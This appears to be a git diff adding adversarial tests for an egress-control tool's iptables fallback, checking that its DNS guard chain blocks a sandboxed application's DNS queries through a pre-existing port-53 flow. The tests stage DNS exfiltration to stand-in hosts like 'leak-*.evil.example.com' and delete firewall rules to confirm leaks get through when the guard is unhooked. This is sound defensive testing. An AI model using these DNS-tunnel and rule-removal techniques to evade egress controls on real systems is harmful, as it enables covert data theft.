@@ -171,3 +171,77 @@ describe("dns-only mode", () => {
     });
   }
 });
+
+describe("the iptables fallback (dns-only without nftables)", () => {
+  // Its raw chain leaves every datagram from port 53 untracked, so a flow a host opens
+  // from there once the chains are in makes no entry: the application's answer is a new
+  // packet and NAT sends it to the proxy. What the filter chain EGRESSCTL-DNS-GUARD is
+  // for: a flow whose entry was made before serve loaded its chains (a restart, a start
+  // after the application), whose reply direction NAT never touches.
+  const fallback = { flags: ["--mode", "dns-only"], env: { EGRESSCTL_NFT_BACKEND: "none" } };
+
+  /** the packets the guard's DROP rule for UDP has counted */
+  async function guardDrops(ctx: AdversarialLab): Promise<number> {
+    const r = await ctx.lab.exec("sandbox", ["iptables", "-w", "-t", "filter", "-L", "EGRESSCTL-DNS-GUARD", "-v", "-x", "-n"]);
+    const line = r.stdout.split("\n").find((l) => / DROP /.test(l) && l.includes(" udp ") && l.includes("dpt:53"));
+    return Number(line?.trim().split(/\s+/)[0] ?? -1);
+  }
+
+  /**
+   * A host sends first from port 53 while no serve runs (the entry is made, tracked);
+   * serve starts in the fallback; 4 s after the host's datagram the application answers
+   * it with a DNS query. `meanwhile` runs once serve is ready, before that answer.
+   */
+  async function flowFromBefore(ctx: AdversarialLab, who: Identity, host: string, p: number, name: string, meanwhile?: () => Promise<void>) {
+    let app: ReturnType<typeof attackSpawn> | undefined;
+    let world: Promise<string> | undefined;
+    await restart(ctx, {
+      ...fallback,
+      before: async (lab) => {
+        // the nftables table of the serves before holds a guard of its own: without it,
+        // only the iptables chains stand. Conntrack stays on in the namespace (a table of
+        // the test's with a ct rule and no verdict), as it is wherever a flow can predate serve.
+        await lab.exec("sandbox", ["nft", "-f", lab.file("ct-on.nft", "table ip egl_ct_on {\n  chain in { type filter hook prerouting priority 0; ct state new counter; }\n}\n")]);
+        await lab.exec("sandbox", ["nft", "delete", "table", "inet", "egressctl"]);
+        await lab.exec("sandbox", ["sh", "-c", "iptables -w -D OUTPUT -j EGRESSCTL-DNS-GUARD; iptables -w -t raw -D PREROUTING -j EGRESSCTL-NOTRACK-IN; true"]);
+        app = attackSpawn(lab, who, ["reply-first", String(p), name, "4"]);
+        await app.waitLine(/^listening/);
+        world = outside(lab, ["udp-first", host, "53", LAB.sandboxV4, String(p), "8"]);
+        await app.waitLine(/^contacted/);
+      },
+    });
+    expect((await ctx.lab.exec("sandbox", ["nft", "list", "tables"])).stdout).not.toContain("egressctl");
+    await meanwhile?.();
+    const line = await app!.waitLine(/^(sent|\w+Error)/);
+    await app!.stop();
+    await ctx.lab.exec("sandbox", ["nft", "delete", "table", "ip", "egl_ct_on"]);
+    return { app: line, world: await world! };
+  }
+
+  for (const who of IDENTITIES) {
+    test(`${who}: DNS back into a flow a host opened from port 53 before serve started is dropped by the guard chain`, async () => {
+      const ctx = get();
+      const r = await flowFromBefore(ctx, who, `203.0.113.${131 + IDENTITIES.indexOf(who)}`, port(who, 14), `leak-${who}.evil.example.com`);
+      expect(r.app).toBe("PermissionError errno=1");
+      expect(r.world).toMatch(/^TimeoutError/);
+      expect(await guardDrops(ctx)).toBeGreaterThan(0);
+    });
+  }
+
+  test("control: with the guard chain unhooked, that DNS reaches the host unredirected", async () => {
+    const ctx = get();
+    const unhook = async () => expect((await ctx.lab.exec("sandbox", ["iptables", "-w", "-D", "OUTPUT", "-j", "EGRESSCTL-DNS-GUARD"])).code).toBe(0);
+    const r = await flowFromBefore(ctx, "nobody", "203.0.113.135", port("nobody", 16), "leak-control.evil.example.com", unhook);
+    expect(r.app).toBe("sent");
+    expect(r.world).toContain(hex("leak-control"));
+  });
+
+  test("a flow opened from port 53 once serve runs makes no entry: the application's DNS goes to the proxy", async () => {
+    const ctx = get();
+    await restart(ctx, fallback);
+    const r = await replyFirst(ctx, "nobody", "203.0.113.136", 53, port("nobody", 17), "leak-later.evil.example.com");
+    expect(r.app).toBe("sent");
+    expect(r.world).toMatch(/^TimeoutError/);
+    expect(await ctx.served.waitEvent((e) => e.event === "dns.denied" && e.name === "leak-later.evil.example.com")).toBeTruthy();
+  });
+});
